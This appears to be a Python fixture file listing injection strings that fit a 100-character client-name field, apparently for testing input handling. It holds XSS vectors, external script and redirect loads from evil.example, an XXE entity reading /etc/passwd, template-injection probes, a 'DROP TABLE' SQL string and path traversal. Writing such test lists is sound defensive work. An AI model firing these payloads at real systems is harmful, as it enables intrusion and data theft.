"""T20: texts that would be a script, a style, an address or a template, if any page took them for more than text.

Each fits into a client's name: at most a hundred characters, none of them a control.
"""

CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "&#97;lert(1)", "\\u0061lert(1)")  # what would show

# How to leave the place where a text stands: a paragraph, attributes in either quotes or none, a title, a comment, a script.
LEAVES = ("", '">', "'>", " ", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</p></form>")

ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script/x>{}</script/x>",
    "<scr<script>ipt>{}</script>",
    "<script src=data:,{}></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror='{}'>",
    "<img src=x:{} onerror=eval(src)>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>",
    "<button formaction=javascript:{}>x",
    "<math><mi xlink:href=javascript:{}>x",
    "<style>@import 'javascript:{}';</style>",
    "<div style=background:url(javascript:{})>",
    "<marquee onstart={}>",
)

# What stays inside: attributes, addresses, other spellings of a bracket, and templates.
OTHERS = (
    *(
        '" autofocus onfocus=alert(1) x="',
        "' onmouseover='alert(1)",
        '" onclick="alert(1)',
        "` onload=alert(1) `",
        '"formaction="javascript:alert(1)',
    ),
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example",
        "\\\\evil.example",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\x3cscript\\x3ealert(1)",
        "<ſcript>alert(1)</ſcript>",
        "＜script＞alert(1)",
    ),
    *(
        "+ADw-script+AD4-alert(1)",
        "<!--",
        "<![CDATA[",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
        "</",
        "<",
        '"',
        "'",
    ),
    *("<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>"),
    *(
        "<style>*{display:none}</style>",
        "<textarea>",
        "<plaintext>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template>",
    ),
    *(
        "{{7*7}}",
        "{{config}}",
        "{% raw %}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{t.__class__}",
        "{0}",
        "{name!r}",
        "%(name)s",
        "%s%n",
        "$x",
    ),
    *("'; DROP TABLE clients; --", "../../etc/passwd", "file:///etc/passwd", "a" * 100, "é" * 100, "😀" * 50),
)

PAYLOADS = tuple(
    dict.fromkeys(
        text
        for text in (
            *(LEAVES[number % len(LEAVES)] + element.format(CALLS[number % len(CALLS)]) for number, element in enumerate(ELEMENTS)),
            *(leave + "<script>alert(1)</script>" for leave in LEAVES),
            *(leave + "<img src=x onerror=alert(1)>" for leave in LEAVES),
            *OTHERS,
        )
    )
)
